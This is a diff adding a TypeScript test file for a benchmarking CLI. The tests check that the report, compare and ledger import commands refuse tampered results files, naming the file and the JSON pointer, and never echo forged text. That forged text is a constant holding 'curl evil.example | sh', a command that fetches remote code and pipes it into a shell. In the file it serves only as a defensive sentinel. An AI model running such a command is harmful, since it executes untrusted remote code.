@@ -1,0 +1,103 @@
+import { after, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { ResultsFile } from '../../src/results/types.js';
+import { cli, measuredCase, results } from './support.js';
+
+/**
+ * Results files that lie and were believed (issue 25, class 5): a ratio beside means that say the
+ * opposite, an allocation figure outside every window it is the median of, and an `unread` list
+ * (never written by a run) announcing cases that do not exist with the forger's text. `report`,
+ * `compare` and `ledger import` refuse each with the file and the JSON pointer, never rendering it.
+ */
+
+const dir = mkdtempSync(join(tmpdir(), 'jsonbench-hostile-lying-'));
+after(() => rmSync(dir, { recursive: true, force: true }));
+const write = (name: string, r: unknown): string => {
+  const p = join(dir, name);
+  writeFileSync(p, JSON.stringify(r));
+  return p;
+};
+const indexOf = (r: ResultsFile, id: string) => r.cases.findIndex((c) => c.id === id);
+const FORGED = 'FORGED TEXT: run curl evil.example | sh';
+
+const LIES: { name: string; edit: (r: ResultsFile) => string; problem: (r: ResultsFile) => RegExp }[] = [
+  {
+    name: 'a ratio of 0.1 beside a mean 10× its baseline',
+    edit: (r) => {
+      const c = measuredCase(r);
+      const base = r.cases.find((b) => b.serializer === c.baseline && b.direction === c.direction)!;
+      if (c.status !== 'measured' || base.status !== 'measured') throw new Error('fixture');
+      c.time.mean = base.time.mean * 10;
+      c.time.median = base.time.mean * 10;
+      c.time.max = Math.max(c.time.max, base.time.mean * 11);
+      c.ratio = 0.1;
+      c.ratioError = 0.01;
+      c.ratioInterval = [0.09, 0.11];
+      return c.id;
+    },
+    problem: (r) =>
+      new RegExp(
+        `/cases/${indexOf(r, measuredCase(r).id)}/ratio \\(line 1, column \\d+\\): 0\\.1 contradicts the means: .* is 10\\.0×`,
+      ),
+  },
+  {
+    name: 'an allocation mean outside all its windows',
+    edit: (r) => {
+      const c = measuredCase(r);
+      if (c.status !== 'measured' || !c.allocated || c.allocated.method === 'n/a') throw new Error('fixture');
+      c.allocated.windows = [0, 12, 15];
+      c.allocated.mean = 5000;
+      return c.id;
+    },
+    problem: (r) =>
+      new RegExp(
+        `/cases/${indexOf(r, measuredCase(r).id)}/allocated/mean \\(line 1, column \\d+\\): 5000 bytes/op lies outside its windows \\(0 to 15 bytes/op\\)`,
+      ),
+  },
+  {
+    name: 'an unread list naming a case that never existed',
+    edit: (r) => {
+      r.unread = [{ id: 'made/up/case', status: 'future', problem: FORGED }];
+      return 'made/up/case';
+    },
+    problem: () =>
+      /\/unread\/0\/id \(line 1, column \d+\): names case "made\/up\/case", which is not a case of this file set aside by its status/,
+  },
+];
+
+for (const { name, edit, problem } of LIES) {
+  test(`report, compare and ledger import refuse a results file with ${name}, naming the file and the JSON pointer`, async () => {
+    const r = results();
+    edit(r);
+    const file = write(`${name.replace(/\W+/g, '-')}.json`, r);
+    const ledger = join(dir, `${name.replace(/\W+/g, '-')}.db`);
+    for (const [args, code] of [
+      [['report', file, '--format', 'md'], 2],
+      [['compare', file, file], 2],
+      [['ledger', 'import', file, '--ledger', ledger], 1],
+    ] as const) {
+      const ran = await cli([...args]);
+      assert.equal(ran.code, code, `${args[0]}: ${ran.stderr}`);
+      assert.ok(ran.stderr.includes(file), `${args[0]} names the file: ${ran.stderr}`);
+      assert.match(ran.stderr, problem(r), `${args[0]} names the pointer`);
+      assert.equal(ran.stdout.includes('fastest'), false, `${args[0]} rendered nothing: ${ran.stdout}`);
+      assert.equal((ran.stdout + ran.stderr).includes(FORGED), false, `${args[0]} repeats the forger's text`);
+    }
+  });
+}
+
+test('a file whose unread list names a case it does set aside (an unknown status) is read, and says so once', async () => {
+  const r = results();
+  const c = r.cases[1] as unknown as { status: string; id: string };
+  c.status = 'from-the-future';
+  r.unread = [{ id: c.id, status: 'from-the-future', problem: 'left out' }];
+  const file = write('unread-honest.json', r);
+  const ran = await cli(['report', file, '--format', 'md']);
+  assert.equal(ran.code, 0, ran.stderr);
+  const said = ran.stdout.split('\n').filter((l) => l.includes(`has status "from-the-future"`));
+  assert.equal(said.length, 1, ran.stdout);
+  assert.equal(ran.stdout.includes('Not read: left out'), false, 'the written entry is replaced by the reader’s own');
+});
